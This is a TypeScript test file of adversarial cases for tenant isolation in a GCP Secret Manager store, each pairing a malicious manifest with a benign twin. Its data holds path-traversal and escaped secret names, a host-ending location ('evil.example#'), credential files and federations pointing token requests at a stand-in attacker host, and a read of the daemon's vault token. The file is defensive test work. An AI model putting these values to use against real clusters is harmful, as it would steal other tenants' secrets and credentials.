import { type Attempt, type ReadOptions, reads, storeOf, type Trial } from '../attempt.ts'
import { TEAM_A } from '../tenant-rules.ts'
import type { World } from '../world.ts'

const AUTH = { secretRef: { secretAccessKeySecretRef: { name: 'gcp', key: 'key.json' } } }

function gcpStore({ gcp }: World, change: object = {}): object {
  return storeOf('gcpsm', { projectID: gcp.project, auth: AUTH, ...change })
}

const twin = (world: World): Trial => ({ manifests: [gcpStore(world), reads('team-a-db')] })

function store(name: string, change: (world: World) => object): Attempt {
  return {
    name: `gcpsm: ${name}`,
    trick: (world) => ({ manifests: [gcpStore(world, change(world)), reads('team-a-db')] }),
    twin,
    outcome: 'refused',
  }
}

function key(name: string, text: string, options: ReadOptions = {}): Attempt {
  return {
    name: `gcpsm: ${name}`,
    trick: (world) => ({ manifests: [gcpStore(world), reads(text, options)] }),
    twin,
    outcome: 'refused',
  }
}

/** A rule that trusts Secrets and ConfigMaps beside the store, with the facts that a store has beside its project. */
function trusting({ gcp }: World, facts: object = {}, credentials: object = { stream: true }): readonly object[] {
  const grant = { provider: 'gcpsm', facts: { projectID: [gcp.project], ...facts }, credentials, keys: ['team-a-*'] }
  return [{ name: 'trusting', ...TEAM_A, stores: [grant] }]
}

/** The key file is the author's own, in a Secret beside the store. */
function withFile(world: World, file: object): Trial {
  const secret = {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name: 'mine' },
    stringData: { 'key.json': JSON.stringify(file) },
  }
  const auth = { secretRef: { secretAccessKeySecretRef: { name: 'mine', key: 'key.json' } } }
  return { manifests: [secret, gcpStore(world, { auth }), reads('team-a-db')], rules: trusting(world) }
}

const withOwnKey = (world: World): Trial => withFile(world, world.googleKey)

const AUDIENCE = '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/q'

function externalAccount({ evil }: World): object {
  return {
    type: 'external_account',
    audience: AUDIENCE,
    subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
    token_url: 'https://sts.googleapis.com/v1/token',
    credential_source: { url: `http://${evil.host}/token` },
  }
}

/** A rule that allows all that a federated store states, and the daemon's identity: the file is refused for whose it is. */
function federated(world: World, source: { readonly [name: string]: string }): Trial {
  const file = { ...externalAccount(world), credential_source: source }
  const federation = {
    credConfig: { name: 'mine', key: 'file' },
    audience: AUDIENCE,
    ...(source['url'] && { externalTokenEndpoint: source['url'] }),
  }
  const facts = Object.fromEntries(Object.keys(federation).map((name) => [`auth.workloadIdentityFederation.${name}`, ['**']]))
  return {
    manifests: [
      { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mine' }, data: { file: JSON.stringify(file) } },
      gcpStore(world, { auth: { workloadIdentityFederation: federation } }),
      reads('team-a-db'),
    ],
    rules: trusting(world, facts, { stream: true, ambient: true }),
  }
}

export const gcpSmAttempts: readonly Attempt[] = [
  store('another project', () => ({ projectID: 'other-project' })),
  store('no project, where the rule asks for one', () => ({ projectID: undefined })),
  store('an empty project', () => ({ projectID: '' })),
  store('a project that is a path', ({ gcp }) => ({ projectID: `${gcp.project}/../other-project` })),
  store('a location', () => ({ location: 'europe-west3' })),
  store('a location that ends the host', () => ({ location: 'evil.example#' })),
  store("the daemon's own identity", () => ({ auth: undefined })),
  store("the daemon's own identity, by an empty auth", () => ({ auth: {} })),
  store("the daemon's own identity, by an empty secretRef", () => ({ auth: { secretRef: {} } })),
  store('a ServiceAccount for a credential', ({ gcp }) => ({
    auth: {
      workloadIdentity: {
        serviceAccountRef: { name: 'gcp' },
        clusterProjectID: gcp.project,
        clusterLocation: 'l',
        clusterName: 'n',
      },
    },
  })),
  store('a federation for a credential', () => ({
    auth: {
      workloadIdentityFederation: {
        serviceAccountRef: { name: 'gcp' },
        audience: AUDIENCE,
        gcpServiceAccountEmail: 'team-b@x.iam.gserviceaccount.com',
      },
    },
  })),
  store('a credential that the rule does not bind', () => ({
    auth: { secretRef: { secretAccessKeySecretRef: { name: 'unbound', key: 'token' } } },
  })),
  key('the secret of another team', 'team-b-db'),
  key('the secret of another project, by its whole name', 'projects/other-project/secrets/team-a-db'),
  key('the secret of another team, by a step', 'team-a-db/../team-b-db'),
  key('the secret of another team, escaped', 'team-a-db%2F..%2Fteam-b-db'),
  key('a name in other case', 'TEAM-A-DB'),
  key('a version in the name', 'team-a-db/versions/1'),
  {
    ...key('a version that is a path', 'team-a-db', { remoteRef: { version: '1/../../../team-b-db/versions/1' } }),
    kind: 'InvalidSpec',
  },
  {
    name: 'gcpsm: an external account where a key file should be',
    trick: (world) => withFile(world, externalAccount(world)),
    twin: withOwnKey,
    outcome: 'refused',
  },
  {
    name: "gcpsm: a user's refresh token where a key file should be",
    trick: (world) => withFile(world, world.gcp.authorizedUser()),
    twin: withOwnKey,
    outcome: 'refused',
  },
  {
    name: 'gcpsm: a key file that says who gives its tokens',
    trick: (world) => withFile(world, { ...world.googleKey, token_uri: `http://${world.evil.host}/token` }),
    twin: withOwnKey,
    outcome: 'in vain',
  },
  {
    name: "gcpsm: a federation of the author's that asks a host of the author's",
    trick: (world) => federated(world, { url: `http://${world.evil.host}/token` }),
    twin: withOwnKey,
    outcome: 'refused',
  },
  {
    name: "gcpsm: a federation of the author's that reads a file of the daemon's",
    trick: (world) => federated(world, { file: `${world.credentials}/admin/vault/token` }),
    twin: withOwnKey,
    outcome: 'refused',
  },
  {
    name: "gcpsm: a federation of the author's that takes the daemon's identity at AWS",
    trick: (world) =>
      federated(world, { environment_id: 'aws1', regional_cred_verification_url: 'https://sts.{region}.amazonaws.com' }),
    twin: withOwnKey,
    outcome: 'refused',
  },
]
